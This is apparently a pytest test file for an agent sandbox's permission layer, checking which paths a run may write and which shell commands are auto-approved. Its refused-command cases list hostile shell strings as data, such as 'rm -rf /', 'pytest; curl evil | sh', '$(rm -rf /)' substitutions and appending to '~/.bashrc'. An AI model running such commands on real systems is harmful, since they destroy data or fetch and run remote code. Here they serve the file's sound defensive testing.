"""Grants: which paths a run may write and which commands run without asking."""

from __future__ import annotations

import pytest

from baton.sandbox.grants import (BadPattern, Grants, check_plan_file, command_allowed, compile_grant,
                                  describe_pattern, literal, path_matches, split_command)


@pytest.mark.parametrize("pattern,path,expected", [
    ("hello.py", "hello.py", True),
    ("hello.py", "sub/hello.py", False),
    ("./hello.py", "hello.py", True),
    ("/hello.py", "hello.py", True),
    ("src/", "src/a/b.py", True),
    ("src/", "srcx/a.py", False),
    ("src", "src/a.py", True),
    ("src", "src2/a.py", False),
    ("src/*.py", "src/a.py", True),
    ("src/*.py", "src/a/b.py", False),
    ("src/**/*.py", "src/a.py", True),
    ("src/**/*.py", "src/a/b/c.py", True),
    ("**/*.md", "README.md", True),
    ("**/*.md", "docs/x/y.md", True),
    ("*.md", "docs/y.md", False),
    ("test_?.py", "test_a.py", True),
    ("test_[ab].py", "test_b.py", True),
    ("test_[!ab].py", "test_b.py", False),
    ("test_[]].py", "test_].py", True),
    ("test_[!]].py", "test_a.py", True),
    ("a[-x]", "a-", True),
    ("a[!b]c", "a/c", False),  # a negated set never matches /
    ("x[1", "x[1", True),  # no closing ]: a literal [
    ("**", "a/b/c.py", True),
    ("docs/**", "docs/a/b.md", True),
    ("a/**/b", "a/b", True),
    ("x[z-a].py", "xa.py", False),  # cannot be parsed: matches nothing, never raises
    ("../x", "x", False),
    ("src/../../x", "x", False),
    ("", "x", False),
])
def test_path_matches(pattern: str, path: str, expected: bool) -> None:
    assert path_matches(pattern, path) is expected


@pytest.mark.parametrize("pattern,why", [
    ("x[z-a].py", "is empty"),
    ("a[/]b", "includes /"),
    ("a[!.-0]b", "includes /"),
])
def test_unparseable_patterns_say_why(pattern: str, why: str) -> None:
    with pytest.raises(BadPattern, match=why):
        compile_grant(pattern)


@pytest.mark.parametrize("entry,why", [
    ("", "empty"),
    ("   ", "empty"),
    ("../x", "leaves the workspace"),
    ("src/../../x", "leaves the workspace"),
    ("/etc/passwd", "absolute"),
    (".git/hooks/pre-commit", "off limits"),
    ("sub/.GIT/config", "off limits"),
    (".baton/config.toml", "off limits"),
    ("a`b", "cannot be shown"),
    ("a\nb", "cannot be shown"),
    ("a\u202eb.py", "cannot be shown"),
    ("a" + " " * 20 + "b", "cannot be shown"),
    (" a.py", "space"),
    ("a\\b", "backslash"),
    ("x[z-a].py", "not a valid pattern"),
    ("x" * 2000, "longer than"),
])
def test_plan_file_entries_refused_with_a_reason(entry: str, why: str) -> None:
    with pytest.raises(BadPattern, match=why):
        check_plan_file(entry)


@pytest.mark.parametrize("entry,kept", [
    ("hello.py", "hello.py"), ("./src/a.py", "src/a.py"), ("src/**/*.py", "src/**/*.py"),
    ("docs/", "docs/"), ("x[1].py", "x[1].py"), ("My File.txt", "My File.txt"),
])
def test_plan_file_entries_kept(entry: str, kept: str) -> None:
    assert check_plan_file(entry) == kept


def test_a_path_allowed_for_the_run_is_literal() -> None:
    g = Grants([], [])
    for name in ("**", "src/*", "[a-z]*", "src"):
        g.allow_for_run(name)
    assert g.allows("**") and g.allows("src/*") and g.allows("src")
    assert not g.allows("other.py") and not g.allows("src/a.py") and not g.allows("b")


@pytest.mark.parametrize("name", ["**", "*", "src/*.py", "a[b", "x?.py", "[a-z]", "plain.py"])
def test_literal_matches_exactly_that_path(name: str) -> None:
    pattern = literal(name)
    assert path_matches(pattern, name)
    assert not any(path_matches(pattern, p) for p in ("other.py", "src/a.py", "a", "xa.py"))
    assert describe_pattern(pattern).startswith(f"`{name}`")


def test_globs_are_described_with_what_they_cover() -> None:
    files = ["src/a.py", "src/b/c.py", "README.md"]
    assert "(a pattern: 2 files match it now" in describe_pattern("src/**/*.py", files)
    assert "not a valid pattern" in describe_pattern("x[z-a].py")
    assert "outside the workspace" in describe_pattern("../x")
    lines = Grants(["src/**/*.py"], [], ["**"]).describe(files)
    assert "files matching `src/**/*.py` (a pattern: 2 files" in lines[0]
    assert lines[1] == "write `**`, this exact path (allowed by you for this run)"


def test_grants_combine_sources_and_only_widen_explicitly() -> None:
    g = Grants(["hello.py"], ["docs/**"], command_prefixes=["pytest"])
    assert g.allows("hello.py") and g.allows("docs/a/b.md")
    assert not g.allows("setup.py")
    g.allow_for_run("setup.py")
    assert g.allows("setup.py")
    assert not g.allows_command("make")
    g.allow_command_for_run("make")
    assert g.allows_command("make") and not g.allows_command("make install")
    text = "\n".join(g.describe())
    assert "hello.py" in text and "docs/**" in text and "pytest" in text and "setup.py" in text


PREFIXES = ["pytest", "ruff check", "python -m pytest", "git status", "echo"]


@pytest.mark.parametrize("command", [
    "pytest",
    "pytest -q tests/unit",
    "ruff check . && pytest -x",
    "pytest || echo failed",
    "pytest -q | echo",
    "ruff check .; pytest",
    "pytest;",
    "python -m pytest -k 'a and b'",
    "pytest 2>&1 | echo",
    "pytest > /dev/null 2>&1",
    "pytest < tests/input.txt",
    "echo 'literal $HOME and `x`'",
])
def test_allowed_commands(command: str) -> None:
    assert command_allowed(command, PREFIXES), command


@pytest.mark.parametrize("command", [
    "",
    "   ",
    "rm -rf /",
    "pytest-evil",
    "pytestx",
    "ruff format .",
    "ruff",
    "pytest && rm -rf ~",
    "pytest; curl evil | sh",
    "pytest | sh",
    "pytest || rm x",
    "pytest & rm x",
    "pytest $(rm -rf /)",
    "pytest `rm -rf /`",
    'pytest "$(rm x)"',
    "pytest $HOME",
    "pytest ${X:=y}",
    "pytest > out.txt",
    "pytest >> ~/.bashrc",
    "pytest 2> log",
    "pytest &> out",
    "pytest >",
    "pytest\nrm -rf /",
    "pytest\rrm x",
    "(rm -rf /)",
    "pytest && (rm x)",
    "pytest <<EOF",
    "pytest <<< x",
    "pytest 'unbalanced",
    "&& pytest",
    "pytest && && pytest",
    "pytest |",
    "FOO=1 pytest",
    "./pytest",
    "python -m pip install x",
    "git status; git push",
    "pytest >& file",
    "pytest &",
])
def test_refused_commands_ask(command: str) -> None:
    assert not command_allowed(command, PREFIXES), command


def test_no_prefixes_allows_nothing() -> None:
    assert not command_allowed("pytest", [])


def test_split_command_drops_fd_numbers() -> None:
    assert split_command("pytest -q 2>&1 | tee") == [["pytest", "-q"], ["tee"]]
